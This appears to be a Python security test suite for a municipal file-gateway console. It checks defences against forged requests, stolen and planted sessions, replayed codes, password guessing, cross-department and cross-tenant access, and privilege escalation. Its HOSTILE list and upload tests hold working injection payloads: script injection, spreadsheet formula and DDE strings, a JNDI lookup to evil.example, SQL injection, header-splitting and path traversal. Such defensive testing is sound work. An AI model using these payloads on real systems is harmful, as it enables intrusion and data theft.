#!/usr/bin/env python3
"""Attacks on the console with accounts at hand: forged requests, planted and
stolen sessions, guessing of passwords and codes, replayed codes, ids of other
departments, roles that are not one's own, names made to be read as markup,
headers, paths or formulas."""
import csv
import io
import pathlib
import re
import sys
import tempfile
import time
import urllib.parse

sys.path.insert(0, str(pathlib.Path(__file__).parent))
import web

HOSTILE = [
    "<script>alert(1)<script>.exe",
    "\"><img src=x onerror=alert(1)>.exe",
    "a\"; filename=\"b.html.exe",
    "=HYPERLINK(\"evil.example\",\"x\").exe",
    "+cmd|' C calc'!A0.exe",
    "@SUM(1+1).exe",
    "‮exe.txt.exe",
    "名前;filename*=UTF-8''evil.html.exe",
    "%0d%0aSet-Cookie: a=b.exe",
    "${jndi:ldap:evil.example}.exe",
    "' OR 1=1 --.exe",
]


def make_world(console):
    for unit in ("総務課", "税務課"):
        console.unit(unit)
    return {
        "staff": console.person("shokuin", "総務課", "staff"),
        "reviewer": console.person("shinsa", "総務課", "reviewer"),
        "approver": console.person("kessai", "総務課", "approver"),
        "elsewhere": console.person("zeimu", "税務課", "reviewer"),
        "administrator": console.person("kanri", "", "administrator"),
    }


def hand_in(person, name, data=b"MZ" + bytes(300)):
    answer = person.browser.upload(name, data)
    assert answer.status == 202, (name, answer)
    item = answer.json()["id"]
    answer = person.browser.get(f"/api/v1/files/{item}?wait=60")
    assert answer.json()["state"] != "processing", answer
    return item, answer.json()


def check_forgery(people):
    """Whatever acts needs the token of the session, and a page of ours."""
    browser = people["staff"].browser
    name = "/api/v1/files?name=a.txt"
    body = {"headers": {"Content-Type": "application/octet-stream"}}
    assert browser.post(name, b"x", csrf=False, **body).status == 403
    for wrong in ("", "0" * 64, browser.csrf[:-1], browser.csrf.upper() + "x"):
        headers = {**body["headers"], "X-CSRF-Token": wrong}
        assert browser.post(name, b"x", headers=headers, csrf=False).status == 403, wrong
    other = people["reviewer"].browser.csrf
    headers = {**body["headers"], "X-CSRF-Token": other}
    assert browser.post(name, b"x", headers=headers, csrf=False).status == 403
    for origin in ("https://evil.example", "null", "https://localhost.evil.example",
                   f"https://evil.example:{browser.port}"):
        headers = {**body["headers"], "Origin": origin}
        assert browser.post(name, b"x", headers=headers).status == 403, origin
    # What a form of another site can send: no JSON, and no token.
    for kind in ("text/plain", "application/x-www-form-urlencoded",
                 "multipart/form-data; boundary=a", "application/jsonx"):
        answer = browser.request("POST", "/api/v1/session",
                                 b'{"login":"a","password":"b"}', {"Content-Type": kind},
                                 csrf=False, cookie=False)
        assert answer.status == 415, (kind, answer)
    assert browser.get("/api/v1/session").status == 200


def check_cookie(console, people):
    """Named, scoped and kept from scripts; one at a time; never one that the
    client chose."""
    person = people["staff"]
    browser = console.browser()
    planted = "ab" * 32
    browser.token = planted
    answer = browser.post("/api/v1/session",
                          {"login": person.login, "password": person.password},
                          headers={"X-CSRF-Token": "0" * 64}, csrf=False)
    assert answer.status == 403, answer
    browser.token = None
    answer = browser.post("/api/v1/session",
                          {"login": person.login, "password": person.password})
    line = answer.header("Set-Cookie")
    assert line.startswith("__Host-sekisho="), line
    for part in ("; Path=/", "; Secure", "; HttpOnly", "; SameSite=Strict"):
        assert part in line, line
    assert "Domain" not in line and browser.token != planted
    # The token is in the cookie and nowhere else.
    assert browser.token not in answer.body.decode(), answer
    first = browser.token
    answer = browser.post("/api/v1/session:secondFactor", {"code": person.code()})
    assert answer.json()["state"] == "active", answer
    assert browser.token != first, "the token did not change at the second factor"
    # The one from before is worth nothing.
    thief = console.browser()
    thief.token = first
    assert thief.get("/api/v1/session").status == 401
    # Two cookies of the name: which one counts is nobody's choice.
    answer = browser.get("/api/v1/session", cookie=False, headers={
        "Cookie": f"__Host-sekisho={browser.token}; __Host-sekisho={planted}"})
    assert answer.status == 400, answer
    for name in ("sekisho", "__Secure-sekisho", "__host-sekisho"):
        answer = browser.get("/api/v1/session", cookie=False,
                             headers={"Cookie": f"{name}={browser.token}"})
        assert answer.status == 401, (name, answer)
    kept = browser.token
    answer = browser.request("DELETE", "/api/v1/session")
    assert answer.status == 204 and "Max-Age=0" in answer.header("Set-Cookie"), answer
    thief.token = kept
    assert thief.get("/api/v1/session").status == 401, "the session outlived its end"


def check_pending(console, people):
    """Half a login is none."""
    person = people["reviewer"]
    browser = console.browser()
    answer = browser.post("/api/v1/session",
                          {"login": person.login, "password": person.password})
    assert answer.json()["state"] == "second_factor", answer
    for path in ("/api/v1/items", "/api/v1/requests", "/api/v1/sessions",
                 "/api/v1/files", "/api/v1/units"):
        assert browser.get(path).status == 401, path
    assert browser.upload("a.txt", b"x").status == 401
    assert browser.get("/api/v1/session").json()["state"] == "second_factor"
    browser.request("DELETE", "/api/v1/session")


def check_replay(console, people):
    """A code is good once, for whoever has the password too."""
    person = people["approver"]
    browser = console.browser()
    answer = browser.post("/api/v1/session",
                          {"login": person.login, "password": person.password})
    assert answer.status == 200, answer
    code = person.code()
    assert browser.post("/api/v1/session:secondFactor", {"code": code}).status == 200
    other = console.browser()
    other.post("/api/v1/session", {"login": person.login, "password": person.password})
    answer = other.post("/api/v1/session:secondFactor", {"code": code})
    assert answer.status == 401, answer
    assert other.get("/api/v1/items").status == 401
    recovery = person.recovery[0]
    answer = other.post("/api/v1/session:secondFactor", {"recovery": recovery})
    assert answer.status == 200, answer
    again = console.browser()
    again.post("/api/v1/session", {"login": person.login, "password": person.password})
    answer = again.post("/api/v1/session:secondFactor", {"recovery": recovery})
    assert answer.status == 401, answer


def check_guessing(console):
    """An account is locked after some failures, and nothing tells whether there
    is one of that name."""
    victim = console.person("nerai", "総務課", "staff")
    browser = console.browser()
    seen = set()
    for login in (victim.login, "nobody-of-this-name"):
        for number in range(8):
            answer = browser.post("/api/v1/session",
                                  {"login": login, "password": f"Wrong-{number}-Pass#"})
            assert answer.status == 401, answer
            seen.add((answer.json()["code"], answer.json()["title"]))
    assert len(seen) == 1, seen
    answer = browser.post("/api/v1/session",
                          {"login": victim.login, "password": victim.password})
    assert answer.status == 401, "the account was not locked"
    # A body that is no credentials at all.
    for body in ({"login": {"a": 1}, "password": "x"}, {"login": "a" * 5000, "password": "x"},
                 {"login": "kanri"}, {"login": "kanri", "password": None}, [], {},
                 {"login": "a\u0000b", "password": "x"},
                 {"login": "a", "password": "x", "role": "administrator"}):
        assert browser.post("/api/v1/session", body).status == 422, body
    for raw in (b"", b"{", b"[" * 100000, b'{"login":"a","login":"b","password":"c"}',
                b"\xff\xfe", b'{"login":"\\ud800","password":"x"}'):
        answer = browser.request("POST", "/api/v1/session", raw,
                                 {"Content-Type": "application/json"})
        assert answer.status == 422, (raw[:40], answer)


def check_departments(people):
    """What another department has is not there: by id, list, filter or action."""
    item, _ = hand_in(people["staff"], "hidden.exe")
    inside, outside = people["reviewer"].browser, people["elsewhere"].browser
    assert inside.get(f"/api/v1/items/{item}").status == 200
    for rest in ("", "/parts", "/findings", "/timeline"):
        answer = outside.get(f"/api/v1/items/{item}{rest}")
        assert answer.status == 404, (rest, answer)
    for query in ("", "?department=" + urllib.parse.quote("総務課"), "?name=hidden"):
        found = [one["id"] for one in outside.get(f"/api/v1/items{query}").json()["items"]]
        assert item not in found, query
    wish = {"kind": "release_original", "reason": "guess"}
    assert outside.post(f"/api/v1/items/{item}:request", wish).status == 404
    assert outside.post(f"/api/v1/items/{item}:hold", {"reason": "x"}).status in (403, 404)
    answer = outside.post("/api/v1/items:batchRequest", {"ids": [item], **wish})
    assert answer.json()["results"][0]["error"] == "not_found", answer
    made = inside.post(f"/api/v1/items/{item}:request", wish)
    assert made.status == 201, made
    request = made.json()["request"]
    assert outside.get(f"/api/v1/requests/{request}").status == 404
    assert request not in outside.get("/api/v1/requests").body.decode()
    # His own request is not his to approve, whatever he claims to be.
    assert inside.post(f"/api/v1/requests/{request}:approve", {}).status == 403
    assert inside.post(f"/api/v1/requests/{request}:approve",
                       {"approver": 1}).status == 403
    people["approver"].browser.post(f"/api/v1/requests/{request}:deny", {"reason": "いいえ"})
    # Who handed a file in does not get the original by his own asking.
    shown = inside.get(f"/api/v1/items/{item}").json()
    assert [(one["kind"], one["name"]) for one in shown["recipients"]] == [
        ("user", "shokuin")], shown
    answer = people["staff"].browser.post(f"/api/v1/items/{item}:request", wish)
    assert answer.status in (403, 409), answer
    for wrong in ("0" * 32, item[:-1], item.upper(), "1", "..", "%2e%2e"):
        answer = inside.get(f"/api/v1/items/{wrong}")
        assert answer.status in (400, 404, 422), (wrong, answer)


def check_tenants(console, people):
    """What another municipality on the same gateway has is not there, and a
    session of one is nobody at the other's console."""
    console.unit("kita-soumu", tenant="kita")
    # The same login name is another person there.
    other = console.person("shinsa", "kita-soumu", "reviewer", "approver", tenant="kita",
                           host="kita.example")
    admin = console.person("kanri", "", "administrator", tenant="kita", host="kita.example")
    item, _ = hand_in(people["staff"], "minami.exe")
    here, there = people["reviewer"].browser, other.browser
    made = here.post(f"/api/v1/items/{item}:request",
                     {"kind": "release_original", "reason": "x"}).json()["request"]
    for path in (f"/api/v1/items/{item}", f"/api/v1/items/{item}/timeline",
                 f"/api/v1/requests/{made}", f"/api/v1/files/{item}"):
        answer = there.get(path)
        assert answer.status == 404 and item not in answer.body.decode(), (path, answer)
    assert there.post(f"/api/v1/requests/{made}:approve", {}).status == 404
    for user in (people["staff"].number, people["administrator"].number):
        assert admin.browser.get(f"/api/v1/users/{user}").status == 404
        assert admin.browser.post(f"/api/v1/users/{user}:resetPassword").status == 404
    assert "shokuin" not in admin.browser.get("/api/v1/users").body.decode()
    assert "総務課" not in admin.browser.get("/api/v1/units").body.decode()
    for path in ("/api/v1/items", "/api/v1/requests", "/api/v1/audit/entries?limit=500"):
        browser = admin.browser if "audit" in path else there
        answer = browser.get(path)
        assert answer.status == 200 and item not in answer.body.decode(), (path, answer)
    # Its department's name cannot be taken, to get at what comes into it.
    assert admin.browser.post("/api/v1/units", {"name": "総務課"}).status == 422
    assert people["administrator"].browser.post("/api/v1/units",
                                                {"name": "kita-x"}).status == 422
    # The token of one at the other's host name.
    for browser, host in ((there, f"localhost:{there.port}"), (here, "kita.example")):
        thief = console.browser()
        thief.token = browser.token
        thief.authority = host
        assert thief.get("/api/v1/items").status == 401, host
        assert browser.get("/api/v1/items").status == 200
    answer = console.browser().get("/api/v1/about", headers={"Host": "nishi.example"})
    assert answer.status in (200, 421), answer


def check_privilege(people):
    """Nobody makes himself more than he is."""
    staff = people["staff"]
    for method, path, body in (
            ("POST", f"/api/v1/users/{staff.number}/role-grants", {"role": "administrator"}),
            ("PATCH", f"/api/v1/users/{staff.number}", {"name": "x", "role": "administrator"}),
            ("POST", "/api/v1/users", {"login": "x", "name": "x", "role": "administrator"}),
            ("POST", "/api/v1/incidents:stopTraffic", {"reason": "x"}),
            ("GET", "/api/v1/users", None)):
        answer = staff.browser.request(method, path, body)
        assert answer.status == 403, (method, path, answer)
    grants = staff.browser.get("/api/v1/session").json()["grants"]
    assert grants == [{"role": "staff", "unit": "総務課"}], grants


def check_names(people):
    """Names come back as they were, in JSON and in headers, and end neither."""
    staff, reviewer = people["staff"].browser, people["reviewer"].browser
    for name in HOSTILE:
        item, shown = hand_in(people["staff"], name)
        answer = reviewer.get(f"/api/v1/items/{item}")
        assert answer.status == 200, answer
        assert answer.header("Content-Type") == "application/json"
        assert answer.header("X-Content-Type-Options") == "nosniff"
        assert answer.json()["name"] == name, (name, answer.json()["name"])
        report = staff.get(f"/api/v1/files/{item}/report")
        line = report.header("Content-Disposition")
        assert report.status == 200 and line.startswith("attachment; filename=\""), report
        value = line.split("; filename*=UTF-8''")
        assert len(value) == 2, line
        assert set(value[0][len("attachment; filename=\""):-1]) <= set(
            "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789._-~"), line
        assert urllib.parse.unquote(value[1]) == shown["name"] + ".report.json", line
        assert report.header("Set-Cookie") is None
    for name in ("../../etc/passwd", "a/b.txt", "<script>alert(1)</script>", "a\nb.txt", "", ".", "..", "a" * 2000,
                 "a\u0000.txt", "a\u007f.txt"):
        answer = staff.upload(name, b"x")
        assert answer.status == 422, (name, answer)
    answer = staff.request("POST", "/api/v1/files?name=%ff%fe.txt", b"x",
                           {"Content-Type": "application/octet-stream"})
    assert answer.status == 422, answer


def check_export(people):
    """The names of check_names() in a file that a spreadsheet opens."""
    reviewer = people["reviewer"].browser
    answer = reviewer.post("/api/v1/items:export", {"lang": "en"})
    assert answer.status == 200 and answer.body.startswith(b"\xef\xbb\xbf"), answer
    assert answer.header("Content-Type") == "application/octet-stream"
    assert re.fullmatch(r'attachment; filename="sekisho-items-[\d-]+\.csv"; filename\*=.*',
                        answer.header("Content-Disposition")), answer.headers
    rows = list(csv.reader(io.StringIO(answer.body.decode("utf-8-sig"), newline="")))
    names = [row[6] for row in rows[1:]]
    assert len(rows) > len(HOSTILE) and len(set(map(len, rows))) == 1, rows
    for name in HOSTILE:
        assert name in names or "'" + name in names, (name, names)
    for row in rows:
        for field in row:
            assert not field.lstrip().startswith(("=", "+", "-", "@", "\t", "\r")), row
    assert people["elsewhere"].browser.post("/api/v1/items:export", {}).body.count(b"\r\n") == 1
    # What is asked for reaches no header.
    for wrong in ({"lang": "en\r\nSet-Cookie: a=b"}, {"name": "a\r\nX: y"}, {"limit": 5}):
        answer = reviewer.post("/api/v1/items:export", wrong)
        assert answer.status in (200, 422) and answer.header("X") is None, (wrong, answer)
        assert answer.header("Set-Cookie") is None
    assert reviewer.get("/api/v1/items:export").status == 405
    assert reviewer.post("/api/v1/items:export", {}, csrf=False).status == 403
    assert reviewer.post("/api/v1/users:export", {}).status == 403


def check_large(console, people):
    staff = people["staff"].browser
    # What says that it will send more than it may is refused before it does.
    for path, kind, size in (
            ("/api/v1/session:password", "application/json", 400000),
            ("/api/v1/files?name=a.txt", "application/octet-stream", 1 << 40)):
        connection = staff.connect()
        connection.putrequest("POST", path, skip_host=True)
        for name, value in (("Host", staff.authority), ("Content-Type", kind),
                            ("Content-Length", str(size)),
                            ("Cookie", f"{web.COOKIE}={staff.token}"),
                            ("X-CSRF-Token", staff.csrf)):
            connection.putheader(name, value)
        connection.endheaders()
        answer = connection.getresponse()
        assert answer.status == 413, (path, answer.status)
        connection.close()
    # One that ends early is none.
    before = len(staff.get("/api/v1/files").json()["files"])
    connection = staff.connect()
    connection.putrequest("POST", "/api/v1/files?name=early.txt", skip_host=True)
    for name, value in (("Host", staff.authority), ("Content-Length", "1000"),
                        ("Cookie", f"{web.COOKIE}={staff.token}"),
                        ("X-CSRF-Token", staff.csrf)):
        connection.putheader(name, value)
    connection.endheaders(b"only this")
    connection.close()
    time.sleep(1)
    shown = staff.get("/api/v1/files").json()["files"]
    assert all(one["state"] != "delivered" or one["name"] != "early.txt" for one in shown)
    assert len(shown) <= before + 1
    assert "program-ended" not in console.log(), console.log()


def main():
    with tempfile.TemporaryDirectory() as name:
        folder = pathlib.Path(name)
        folder.chmod(0o755)
        with web.Console(folder / "state", extra="file_bytes: 1MiB",
                         config='tenants:\n  departments: ["kita-* kita"]\n'
                                '  hosts: ["kita.example kita"]\n') as console:
            people = make_world(console)
            check_forgery(people)
            check_cookie(console, people)
            check_pending(console, people)
            check_replay(console, people)
            check_departments(people)
            check_tenants(console, people)
            check_privilege(people)
            check_names(people)
            check_export(people)
            check_large(console, people)
            check_guessing(console)
            assert "program-ended" not in console.log(), console.log()
            secrets = [person.password for person in people.values()]
            secrets += [person.browser.token for person in people.values()]
            assert not any(one and one in console.log() for one in secrets)
    print("ok")


if __name__ == "__main__":
    main()
